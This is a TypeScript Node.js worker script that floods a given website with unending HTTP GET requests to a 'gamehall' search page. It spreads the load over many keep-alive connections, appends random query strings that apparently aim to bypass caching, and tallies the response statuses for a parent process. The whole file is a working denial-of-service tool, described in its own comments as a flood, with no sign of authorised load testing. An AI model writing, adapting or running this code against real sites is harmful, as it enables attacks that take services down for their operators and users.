import { Agent, get } from 'node:http'

/**
 * Whom to flood: random search texts of the game hall, by so many connections of one address, until the process is
 * ended.
 */
export type FloodPlan = { readonly site: string; readonly connections: number }
/** Answers so far, by status; sent each time that it is asked for. */
export type FloodResult = Readonly<Record<string, number>>

const statuses: Record<string, number> = {}
const randomText = (): string => Math.random().toString(36).slice(2)

function visit(site: string, agent: Agent): Promise<void> {
  return new Promise((resolve) => {
    const done = (status: string): void => {
      statuses[status] = (statuses[status] ?? 0) + 1
      resolve()
    }
    get(
      `${site}/gamehall?query=${randomText()}`,
      { agent, headers: { 'accept-encoding': 'br, gzip', accept: 'text/html' } },
      (answer) => {
        answer
          .resume()
          .on('end', () => done(String(answer.statusCode)))
          .on('error', () => done('cut off'))
      },
    ).on('error', () => done('refused'))
  })
}

async function client(site: string, agent: Agent): Promise<never> {
  for (;;) await visit(site, agent)
}

process.on('message', (message: FloodPlan | 'result') => {
  if (message === 'result') return void process.send?.(statuses)
  const agent = new Agent({ keepAlive: true, maxSockets: message.connections })
  for (let index = 0; index < message.connections; index++) void client(message.site, agent)
})
process.on('disconnect', () => process.exit(0))
